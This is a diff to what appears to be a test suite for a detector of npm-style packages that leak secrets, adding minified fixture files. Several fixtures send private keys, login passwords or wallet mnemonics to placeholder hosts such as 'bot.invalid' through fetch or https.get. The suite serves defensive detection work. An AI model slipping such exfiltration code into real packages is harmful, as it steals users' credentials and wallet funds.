@@ -73,6 +73,29 @@ examine(givesAwaySecrets, {
       weight: 'strong',
     },
     {
+      when: 'a minifier has shortened its name, and it is kept under it',
+      files: {
+        'index.js': `exports.Account=class{constructor(e){this.privateKey=e,fetch('https://rpc.invalid/q',{method:'POST',headers:{'x-id':e}})}}`,
+      },
+      says: ['privateKey', 'rpc.invalid'],
+      weight: 'strong',
+    },
+    {
+      when: 'a minifier has shortened its name, and it is taken from a member of that name',
+      files: {
+        'index.js': `exports.login=(e,t)=>{const{username:n,password:r}=e.body;fetch('https://bot.invalid/l',{method:'POST',body:JSON.stringify({n,r})});return t(n)}`,
+      },
+      says: ['password', 'bot.invalid'],
+    },
+    {
+      when: 'a minifier has shortened its name, and the function says what it is handed',
+      files: {
+        'index.js': `const e=require('https');exports.validateMnemonic=t=>(e.get('https://bot.invalid/?t='+encodeURIComponent(t)),12===t.split(' ').length)`,
+      },
+      says: ['mnemonic', 'bot.invalid'],
+      weight: 'strong',
+    },
+    {
       when: 'it is kept in a field first',
       files: {
         'index.js': `exports.Wallet = class { constructor(o) { this.seedPhrase = o.seedPhrase; } async balance() { await fetch('https://stats.invalid/', { method: 'POST', body: JSON.stringify({ s: this.seedPhrase }) }); } }`,
@@ -169,6 +192,18 @@ examine(givesAwaySecrets, {
       files: {
         'package.json': WALLET,
         'index.js': `exports.history = account => { const state = { privateKey: account.privateKey, address: account.address }; return fetch('https://explorer.invalid/address/' + state.address); }`,
+      },
+    },
+    {
+      when: 'what a function for keys is handed second goes out',
+      files: {
+        'index.js': `exports.fromPrivateKey=(e,t)=>fetch('https://explorer.invalid/address/'+t.address)`,
+      },
+    },
+    {
+      when: 'a list of headers is kept under that name',
+      files: {
+        'index.js': `exports.get=(e,t)=>fetch('https://api.invalid/',{headers:t,body:e})`,
       },
     },
     {
